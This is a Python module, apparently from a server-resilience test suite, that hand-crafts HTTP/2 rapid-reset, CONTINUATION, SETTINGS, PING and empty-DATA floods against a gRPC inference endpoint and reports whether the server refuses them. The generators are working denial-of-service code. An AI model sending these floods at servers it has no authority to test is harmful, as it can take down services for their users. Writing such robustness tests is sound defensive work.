"""Floods of HTTP/2 frames (RFC 9113), written by hand: no client's library would send them."""

from __future__ import annotations

import socket
import struct
from collections.abc import Iterator
from contextlib import suppress

from inflight.client.transport import Address

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RESET, _SETTINGS, _PING, _GOAWAY, _CONTINUATION = 0, 1, 3, 4, 6, 7, 9
_END_STREAM, _END_HEADERS = 1, 4
_FRAMES = 20_000
_AT_ONCE = 200
_PATIENCE_S = 20.0


def _frame(kind: int, flags: int, stream: int, content: bytes = b"") -> bytes:
    return struct.pack(">I", len(content))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + content


def _field(name: bytes, value: bytes) -> bytes:
    """Return a header field as HPACK has it without tables (RFC 7541, 6.2.2); both parts are shorter than 127 bytes."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


_CALL = b"".join(
    _field(name, value)
    for name, value in (
        (b":method", b"POST"),
        (b":scheme", b"http"),
        (b":path", b"/inference.GRPCInferenceService/ModelStreamInfer"),
        (b":authority", b"localhost"),
        (b"content-type", b"application/grpc"),
        (b"te", b"trailers"),
    )
)


def _streams() -> Iterator[int]:
    yield from range(1, 2 * _FRAMES, 2)


def _rapid_reset() -> Iterator[bytes]:
    for stream in _streams():
        yield _frame(_HEADERS, _END_HEADERS, stream, _CALL) + _frame(_RESET, 0, stream, struct.pack(">I", 8))


def _continuation() -> Iterator[bytes]:
    yield _frame(_HEADERS, 0, 1, _CALL)
    for number in range(_FRAMES):
        yield _frame(_CONTINUATION, 0, 1, _field(b"x-%d" % number, b"a" * 100))


def _settings() -> Iterator[bytes]:
    for _ in range(_FRAMES):
        yield _frame(_SETTINGS, 0, 0, struct.pack(">HI", 4, 65_535))


def _pings() -> Iterator[bytes]:
    for _ in range(_FRAMES):
        yield _frame(_PING, 0, 0, b"12345678")


def _empty_data() -> Iterator[bytes]:
    yield _frame(_HEADERS, _END_HEADERS, 1, _CALL)
    for _ in range(_FRAMES):
        yield _frame(_DATA, 0, 1)


FLOODS = {
    "rapid reset": _rapid_reset,
    "CONTINUATION": _continuation,
    "SETTINGS": _settings,
    "PING": _pings,
    "empty DATA": _empty_data,
}


def flood(address: Address, kind: str) -> str:
    """Send 20,000 frames of a kind over one connection, whose answers are not read; return what the server did."""
    frames = list(FLOODS[kind]())
    sent = 0
    with socket.create_connection((address.host, address.port), timeout=_PATIENCE_S) as connection:
        try:
            connection.sendall(_PREFACE + _frame(_SETTINGS, 0, 0))
            for place in range(0, len(frames), _AT_ONCE):
                connection.sendall(b"".join(frames[place : place + _AT_ONCE]))
                sent = place + _AT_ONCE
        except TimeoutError:
            return f"{kind}: no more was taken"
        except OSError:
            return f"{kind}: closed before {_order(sent)}"
        with suppress(OSError):
            connection.shutdown(socket.SHUT_WR)
        return f"{kind}: {_end(connection)}"


def _order(frames: int) -> str:
    limits = [limit for limit in (1000, 10_000, _FRAMES) if frames < limit]
    return f"{limits[0] if limits else _FRAMES:,} frames"


def _end(connection: socket.socket) -> str:
    """Return whether the server says that the connection is over, and closes it."""
    answer = b""
    try:
        while more := connection.recv(1 << 16):
            answer = (answer + more)[-(1 << 20) :]
    except TimeoutError:
        return "all frames are taken"
    except OSError:
        return "closed"
    return "refused by GOAWAY" if _has_goaway(answer) else "all frames are taken, then closed"


def _has_goaway(answer: bytes) -> bool:
    """Return whether the answer ends in a frame that ends the connection with an error."""
    place = answer.rfind(bytes([_GOAWAY, 0, 0, 0, 0, 0]))
    return place >= 0 and answer[place + 10 : place + 14] != b"\0\0\0\0"
